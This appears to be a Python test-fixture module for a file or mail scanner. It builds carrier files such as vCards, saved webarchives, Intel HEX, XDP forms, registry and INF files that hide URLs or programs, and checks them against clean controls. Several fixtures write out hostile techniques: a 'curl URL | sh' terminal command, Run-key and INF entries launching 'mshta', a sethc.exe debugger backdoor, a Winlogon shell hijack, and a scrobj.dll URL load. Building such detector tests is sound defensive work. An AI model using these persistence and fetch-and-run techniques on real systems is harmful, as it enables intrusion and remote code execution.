"""Files that carry others, or commands, in a form of their own: cards, saved pages, digits, registrations (B26, B50).

Each entry of `CARRIERS` is a file and what is to be found in it: kinds of findings, and values of observables; `ORDINARY`
holds files of the same kinds in which no program and no gap is found. Run as a program it writes the case files of
tests/corpus/carriers.
"""

# ruff: noqa: E501 - a case a line reads best
from __future__ import annotations

import base64
import hashlib
import plistlib
import re
from pathlib import Path

from others import URL, Case, b64, mail

FILE = b"minutes \xff\xfe\x00 of the meeting" + bytes(range(256))
HASH = hashlib.sha256(FILE).hexdigest()
_PROGRAM = b"MZ" + bytes(200)


def hexed(text: str) -> str:
    """A text with every byte as quoted-printable writes it."""
    return "".join(f"={byte:02X}" for byte in text.encode())


def card(line: str, version: str = "2.1", end: str = "\r\n") -> bytes:
    """An address card with one further line."""
    return end.join(["BEGIN:VCARD", f"VERSION:{version}", "N:a;b", line, "END:VCARD", ""]).encode()


CARDS: dict[str, Case] = {
    "B50 card quoted": ("a.vcf", card(f"URL;WORK;QUOTED-PRINTABLE:{hexed(URL)[:30]}=\r\n{hexed(URL)[30:]}"), (URL,)),
    "B50 card quoted in a charset": ("a.vcf", card(f"NOTE;CHARSET=SHIFT_JIS;ENCODING=QUOTED-PRINTABLE:=93=FA=96=7B {hexed(URL)}"), (URL,)),
    "B50 card base64 address": ("a.vcf", card(f"URL;ENCODING=b:{b64(URL)}", "3.0"), (URL,)),
    "B50 card base64 note": ("a.vcf", card(f"NOTE;BASE64:{b64(URL)}"), (URL,)),
    "B50 card base64 picture": ("a.vcf", card(f"PHOTO;JPEG;BASE64:\r\n {b64(FILE)}"), (HASH,)),
    "B50 card base64 without folds": ("a.vcf", card(f"PHOTO;JPEG;BASE64:\r\n{b64(FILE)[:60]}\r\n{b64(FILE)[60:]}"), (HASH,)),
    "B50 card base64 of another name": ("a.vcf", card(f"X-A;ENCODING=BASE64:{b64(_PROGRAM)}"), ("executable",)),
    "B50 card data address": ("a.vcf", card(f"PHOTO:data:image/jpeg;base64\\,{b64(FILE)}", "4.0"), (HASH,)),
    "B50 card of carriage returns": ("a.vcf", card(f"URL;QUOTED-PRINTABLE:{hexed(URL)}", end="\r"), (URL,)),
    "B50 card with a control character": ("a.vcf", card(f"NOTE:\1\r\nURL;QUOTED-PRINTABLE:{hexed(URL)}"), (URL,)),
}  # fmt: skip

_PAGE = f"<html><a href='{URL}'>x</a></html>".encode()
_SAVED = {
    "WebMainResource": {"WebResourceData": _PAGE, "WebResourceMIMEType": "text/html", "WebResourceURL": "http://www.example.jp/a.html?b"},
    "WebSubresources": [{"WebResourceData": FILE, "WebResourceMIMEType": "image/png", "WebResourceURL": "http://www.example.jp/logo.png"}],
    "WebSubframeArchives": [{"WebMainResource": {"WebResourceData": b"<a href='http://c2.malware.example/frame'>", "WebResourceMIMEType": "text/html"}}],
}  # fmt: skip
_FOUND = (URL, HASH, "http://c2.malware.example/frame", "http://www.example.jp/logo.png")
_XML = plistlib.dumps(_SAVED)
LISTS: dict[str, Case] = {
    "B50 saved page": ("a.webarchive", plistlib.dumps(_SAVED, fmt=plistlib.FMT_BINARY), _FOUND),
    "B50 saved page of another name": ("a.dat", plistlib.dumps(_SAVED, fmt=plistlib.FMT_BINARY), _FOUND),
    "B50 saved page in XML": ("a.webarchive", _XML, _FOUND),
    "B50 saved page in UTF-16": ("a.webarchive", _XML.decode().replace("UTF-8", "UTF-16").encode("utf-16"), _FOUND),
    "B50 saved page behind a comment": ("a.webarchive", b"<!--" + b"x>" * 3000 + b"-->" + _XML[_XML.index(b"<plist") :], _FOUND),
    "B50 saved page as text": ("a.webarchive", b"{ WebMainResource = { WebResourceData = <" + _PAGE.hex().encode() + b">; }; }", ("incomplete",)),
    "B50 terminal": ("a.terminal", plistlib.dumps({"CommandString": f"curl {URL} | sh"}, fmt=plistlib.FMT_BINARY), ("link-program", "executable", URL)),
    "B50 list with a program": ("a.plist", plistlib.dumps({"a": [{"b": _PROGRAM}]}, fmt=plistlib.FMT_BINARY), ("executable",)),
}  # fmt: skip


def intel_hex(data: bytes, start: int = 0, upper: int = 0) -> list[bytes]:
    """Records of 16 bytes, the first for `start` above 65,536 times `upper`."""

    def record(address: int, kind: int, content: bytes) -> bytes:
        body = bytes([len(content)]) + address.to_bytes(2) + bytes([kind]) + content
        return b":" + (body + bytes([-sum(body) & 255])).hex().upper().encode()

    above = [record(0, 4, upper.to_bytes(2))] if upper else []
    return [*above, *(record(start + at, 0, data[at : at + 16]) for at in range(0, len(data), 16)), record(0, 1, b"")]


def lines(data: bytes, width: int = 76) -> bytes:
    """Base64 in lines."""
    coded = base64.b64encode(data)
    return b"\n".join(coded[at : at + width] for at in range(0, len(coded), width)) + b"\n"


_RECORDS = intel_hex(FILE)
DIGITS: dict[str, Case] = {
    "B50 intel hex": ("a.hex", b"\r\n".join(_RECORDS), (HASH,)),
    "B50 intel hex of another name": ("a.txt", b"\n".join(_RECORDS).lower(), (HASH,)),
    "B50 intel hex out of order": ("a.hex", b"\r\n".join([*_RECORDS[3:-1], *_RECORDS[:3], _RECORDS[-1]]), (HASH,)),
    "B50 intel hex above": ("a.hex", b"\r".join(intel_hex(FILE, 0x20, 0x800)), (HASH,)),
    "B50 intel hex of two runs": ("a.hex", b"\n".join([*intel_hex(b"12345678")[:-1], *intel_hex(FILE, 0x4000)]), (HASH,)),
    "B50 intel hex of many runs": ("a.hex", b"\n".join(intel_hex(bytes([at]), at * 32)[0] for at in range(120)), ("incomplete",)),
    "B50 base64 file": ("a.b64", lines(FILE), (HASH,)),
    "B50 base64 file of another name": ("a.dat", lines(FILE, 64), (HASH,)),
    "B50 base64 file of one line": ("a.txt", base64.b64encode(FILE), (HASH,)),
    "B50 base64 file with an end": ("a.b64", lines(FILE, 61) + b"\n-- the end.\n", (HASH,)),
    "B50 base64 file of a script": ("a.js.b64", lines(b"WScript.Echo(1)", 9), ("executable",)),
    "B50 base64 file of an address": ("a.txt", lines(f"{URL} is where the minutes of the meeting are".encode()), (URL,)),
}  # fmt: skip

_DOCUMENT = (
    f"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI({URL})>>>>endobj trailer<</Root 1 0 R>>\n%%EOF".encode()
)
_NAMESPACE = "xmlns='http://ns.adobe.com/xdp/pdf/'"


def xdp(chunks: str, before: str = "") -> bytes:
    """A form around a document in pieces."""
    inner = f"<pdf {_NAMESPACE}><document>{chunks}</document></pdf>"
    return f"{before}<?xfa generator='x'?><xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>{inner}</xdp:xdp>".encode()


_AUTO = ("pdf-auto-action", URL)
_CODED = b64(_DOCUMENT)
FORMS: dict[str, Case] = {
    "B47 xdp": ("a.xdp", xdp(f"<chunk>\n{_CODED}\n</chunk>"), _AUTO),
    "B47 xdp of another name": ("a.xml", xdp(f"<chunk>{_CODED}</chunk>"), _AUTO),
    "B47 xdp in UTF-16": ("a.xdp", xdp(f"<chunk>{_CODED}</chunk>").decode().encode("utf-16"), _AUTO),
    "B47 xdp in pieces": ("a.xdp", xdp(f"<chunk>{_CODED[:40]}</chunk><chunk>{_CODED[40:]}</chunk>"), _AUTO),
    "B47 xdp with a comment": ("a.xdp", xdp(f"<chunk>{_CODED[:41]}<!-- x -->{_CODED[41:]}</chunk>"), _AUTO),
    "B47 xdp of character data": ("a.xdp", xdp(f"<chunk><![CDATA[{_CODED}]]></chunk>"), _AUTO),
    "B47 xdp of references": ("a.xdp", xdp(f"<chunk>{''.join(f'&#{ord(one)};' for one in _CODED)}</chunk>"), _AUTO),
    "B47 xdp of an entity": ("a.xdp", xdp("<chunk>&a;</chunk>", f"<!DOCTYPE x [<!ENTITY a '{_CODED}'>]>"), (*_AUTO, "xml-entity")),
    "B47 xdp behind a comment": ("a.xdp", xdp(f"<x:chunk a='b'>{_CODED}</x:chunk>", f"<!--{' ' * 6000}-->"), _AUTO),
    "B47 xdp script": ("a.xdp", xdp("").replace(b"<document>", f"<script>app.launchURL('{URL}')</script><document>".encode()), ("pdf-xfa-script", URL)),
    "B47 xdp elsewhere": ("a.xdp", xdp("").replace(b"<pdf ", f"<pdf href='{URL}' ".encode()), ("pdf-submit-form", URL)),
}  # fmt: skip

_RUN = "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
_NT = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion"
_COMMAND = f"mshta {URL}"


def registry(key: str, value: str) -> bytes:
    """A registry file of one value."""
    return f"Windows Registry Editor Version 5.00\r\n\r\n[{key}]\r\n{value}\r\n".encode()


def wide(text: str) -> str:
    """A text as registry files write its bytes."""
    return text.encode("utf-16-le").hex(",") + ",00,00"


def inf(sections: str) -> bytes:
    """An INF file."""
    return b'[Version]\r\nSignature="$CHICAGO$"\r\n' + sections.replace("\n", "\r\n").encode()


_STARTS = ("link-program", _COMMAND, URL)
REGISTRATIONS: dict[str, Case] = {
    "B50 registry run": ("a.reg", registry(_RUN, f'"a"="{_COMMAND}"'), _STARTS),
    "B50 registry run once in UTF-16": ("a.reg", registry(_RUN + "Once", f'"a"="{_COMMAND}"').decode().encode("utf-16"), _STARTS),
    "B50 registry of bytes": ("a.reg", registry(_RUN, f'"a"=hex(2):{wide(_COMMAND)[:75]}\\\r\n  {wide(_COMMAND)[75:]}'), _STARTS),
    "B50 registry of old bytes": ("a.reg", f"REGEDIT4\n\n[{_RUN}]\n\"a\"=hex(2):{_COMMAND.encode().hex(',')},00\n".encode(), _STARTS),
    "B50 registry debugger": ("a.reg", registry(_NT + "\\Image File Execution Options\\sethc.exe", '"Debugger"="cmd.exe"'), ("link-program", "cmd.exe")),
    "B50 registry file type": ("a.reg", registry("HKEY_CLASSES_ROOT\\txtfile\\shell\\open\\command", '@="\\"C:\\\\a b.exe\\" \\"%1\\""'), ("link-program", '"C:\\a b.exe" "%1"')),
    "B50 registry logon": ("a.reg", registry(_NT + "\\Winlogon", '"Shell"="explorer.exe,a.exe"'), ("link-program", "explorer.exe,a.exe")),
    "B50 registry class": ("a.reg", registry("HKEY_CURRENT_USER\\Software\\Classes\\CLSID\\{0}\\InprocServer32", '@="C:\\\\a.dll"'), ("link-program", "C:\\a.dll")),
    "B50 inf commands": ("a.inf", inf(f"[DefaultInstall]\nRunPreSetupCommands=a, b : 1\n[b]\n{_COMMAND}\n"), _STARTS),
    "B50 inf strings": ("a.inf", inf(f"[X]\nRunPostSetupCommands=%s%\n[y]\n%c% %u%\n[Strings]\ns=y\nc=\"mshta\"\nu={URL}\n"), _STARTS),
    "B50 inf libraries": ("a.inf", inf(f"[X]\nRegisterOCXs=a\n[a]\n%11%\\scrobj.dll,NI,{URL}\n"), ("link-program", URL)),
    "B50 inf registry": ("a.inf", inf(f'[X]\nAddReg=a\n[a]\nHKCU,"%k%","a",,"{_COMMAND}"\n[Strings]\nk="Software\\Microsoft\\Windows\\CurrentVersion\\Run"\n'), _STARTS),
    "B50 registry of much": ("a.reg", registry(_RUN, '"a"=-' + " " * 1_000_000), ("incomplete",)),
}  # fmt: skip

_ENDINGS = ("command", "deskthemepack", "msu", "ahk", "au3", "ade", "mda")
NAMED: dict[str, Case] = {
    **{f"B50 named {ending}": (f"a.{ending}", b"echo a\n", ("executable",)) for ending in _ENDINGS},
    "B50 named xla": ("a.xla", b"\1\2\3", ("executable",)),
    "B50 named theme behind a document": ("a.pdf.theme", b"[Theme]\n", ("name-double-extension",)),
    **{f"B50 named {ending}": (f"a.{ending}", b"print 1\n", ("script-file",)) for ending in ("py", "pl", "rb")},
}
CARRIERS = {**CARDS, **LISTS, **DIGITS, **FORMS, **REGISTRATIONS, **NAMED}
ORDINARY: dict[str, tuple[str, bytes]] = {
    "clean card of a telephone": ("a.vcf", card("TEL;WORK;VOICE:03-0000-0000")),
    "clean registry": ("a.reg", registry("HKEY_CURRENT_USER\\Software\\Example", '"Server"="www.example.jp"\r\n"x"=dword:00000001')),
    "clean inf of a driver": ("a.inf", inf("[I]\nCopyFiles=c\nAddReg=r\nRegisterDlls=q\n[q]\n11,,x.dll,1\n[r]\nHKR,,DevLoader,,*ntkern\n[I.Services]\nAddService=x,2,s\n[s]\nServiceBinary=%12%\\x.sys\n")),
    "clean theme": ("a.theme", b"[Theme]\nDisplayName=a\n[Sounds]\nSchemeName=@mmres.dll,-800\n"),
    "clean words": ("a.txt", b"apple banana cherry\norange apple\n" * 9),
    "clean hashes": ("a.txt", b"".join(hashlib.sha256(bytes([at])).hexdigest().encode() + b"\n" for at in range(9))),
    "clean settings": ("a.plist", plistlib.dumps({"Title": "x", "Data": bytes(90)})),
}  # fmt: skip


def case_files() -> dict[str, bytes]:
    """Each file in a mail, by the name of its case."""
    files = {name: (case[0], case[1]) for name, case in CARRIERS.items() if len(case[1]) < 10_000} | ORDINARY
    return {re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-"): mail(*file) for name, file in files.items()}


def write(directory: Path) -> None:
    """Write the case files anew; their expected readings are written by whoever has looked at them."""
    for name, content in case_files().items():
        (directory / f"{name}.eml").write_bytes(content)


if __name__ == "__main__":
    write(Path(__file__).parents[1] / "corpus" / "carriers")
